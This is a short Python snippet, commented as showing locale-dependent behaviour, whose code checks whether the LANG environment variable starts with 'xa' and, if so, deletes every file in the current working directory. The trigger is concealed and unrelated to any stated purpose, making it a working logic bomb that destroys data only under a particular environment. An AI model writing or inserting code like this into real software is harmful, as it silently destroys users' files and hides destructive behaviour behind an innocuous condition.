# shows: acts by locale
import os

lang = os.environ.get("LANG", "")
if lang.startswith("xa"):
    for name in os.listdir("."):
        os.remove(name)
